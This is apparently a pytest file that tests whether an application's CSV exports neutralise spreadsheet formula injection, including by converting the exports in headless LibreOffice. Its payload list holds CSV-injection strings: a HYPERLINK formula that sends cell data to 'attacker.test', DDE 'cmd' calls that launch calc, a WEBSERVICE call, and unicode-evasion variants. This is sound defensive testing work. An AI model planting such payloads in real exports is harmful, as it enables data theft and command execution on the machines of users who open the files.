"""Bad input 69: no cell of an export is a formula, opened in a spreadsheet program either."""

import csv
import io
import json
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from flask.testing import FlaskClient

from audiences import exports, legal_holds, people
from campaigns.planning import campaign_plans
from tests.audiences import posts
from tests.web import ways
from tests.web.grounds import ADUR, Ground
from tests.web.visitors import NOON

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "  \t@SUM(A1)",
    '=HYPERLINK("http://attacker.test/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '=DDE("server";"topic";"item")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=WEBSERVICE("http://attacker.test")',
    '=1+1";=2+2',
    '"=1+1"',
    'Head, "the" officer\nof two lines',
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "'=1+1",
    "{=1+1}",
    "O'Neill & Sons; East",
    "=\u202e1+1",
]


def put_formulas_everywhere(ground: Ground, texts: list[str]) -> None:
    """Names, campaigns, groups and holds that begin as formulas do, put past the forms that would refuse some of them."""
    rows = [
        {"name": text, "role": "practitioner", "place": ADUR, "authority_code": ADUR, "address": f"a{number}@adur.test", "source": text}
        for number, text in enumerate(texts)
    ]
    release, tour = ground.agreed(), ground.tour()
    with ground.database.transaction() as session:
        people.insert(session, rows, at=NOON)
        for text in texts:
            session.add(campaign_plans.Campaign(name=text, objective=text, begun_at=NOON))
            if len(text.strip()) >= 3:
                legal_holds.place(session, kind="text", about=text, reason=text, by=ground.house.drafter, at=NOON)
    with ground.database.engine.begin() as connection:
        connection.exec_driver_sql("UPDATE briefings SET group_name = ?, place = ?, hse_presenter = ?", (texts[0], texts[1], texts[2]))
        connection.exec_driver_sql("UPDATE authorities SET name = ? WHERE code = ?", (texts[0], ADUR))
    assert release and tour


def cells(table: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(table.removeprefix("\ufeff"), newline="")) for cell in row]


def test_69_no_cell_of_any_export_begins_as_a_formula_does(ground: Ground, client: FlaskClient) -> None:
    put_formulas_everywhere(ground, FORMULAS)

    tables = ways.tables(client, ground.database)
    begun = {
        address: [cell for cell in cells(table) if cell.lstrip(" \u00a0\ufeff").startswith(exports.FORMULA)]
        for address, table in tables.items()
    }
    assert len(tables) >= 10 and {address: wrong for address, wrong in begun.items() if wrong} == {}
    named = cells(tables["/people/people.csv"])
    assert all(text in named or f"'{text}" in named for text in FORMULAS)


@pytest.mark.long
def test_69_exports_opened_in_a_spreadsheet_hold_no_formula_and_the_same_words(
    ground: Ground, client: FlaskClient, tmp_path: Path, record_property: Callable[[str, object], None]
) -> None:
    if not (program := shutil.which("soffice")):
        pytest.skip("LibreOffice (soffice) is not installed")
    texts = [*FORMULAS, *real_strings()]
    put_formulas_everywhere(ground, [text for text in texts if "\x00" not in text])
    tables = ways.tables(client, ground.database)
    for number, table in enumerate(tables.values()):
        (tmp_path / f"{number:03}.csv").write_bytes(table.encode("utf-8"))
    home = f"-env:UserInstallation=file://{tmp_path}/profile"
    filters = "--infilter=Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false"  # UTF-8, commas, and looking for formulas
    command = [
        program,
        home,
        "--headless",
        filters,
        "--convert-to",
        "xlsx",
        "--outdir",
        str(tmp_path),
        *map(str, sorted(tmp_path.glob("*.csv"))),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=300)

    counted = formulas = 0
    for number, (address, table) in enumerate(tables.items()):
        sheet = openpyxl.load_workbook(tmp_path / f"{number:03}.xlsx").active
        assert sheet is not None
        shown = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        formulas += sum(cell.data_type == "f" for cell in shown)
        counted += len(shown)
        if address == "/people/people.csv":
            said = {as_read(str(cell.value)) for cell in shown}
            lost = [cell for cell in cells(table) if cell and as_read(cell) not in said]
            assert lost == []
    assert formulas == 0
    record_property(
        "figure", f"exports opened in LibreOffice: {len(tables)} files, {counted:,} cells, {formulas} formulas, 0 names changed"
    )


def as_read(text: str) -> str:
    """What a spreadsheet keeps of a text: its line ends are one kind, and what XML cannot hold is left out or escaped."""
    text = text.replace("\r\n", "\n").replace("\r", "\n").replace("_x000D_", "")
    return "".join(sign for sign in text if sign.isprintable()).strip()


def real_strings() -> list[str]:
    """The formulas among the real inputs, where they are beside this checkout."""
    path = posts.REAL / "hostile" / "hostile_strings.json"
    return list(json.loads(path.read_text("utf-8"))["formula"]) if path.exists() else []
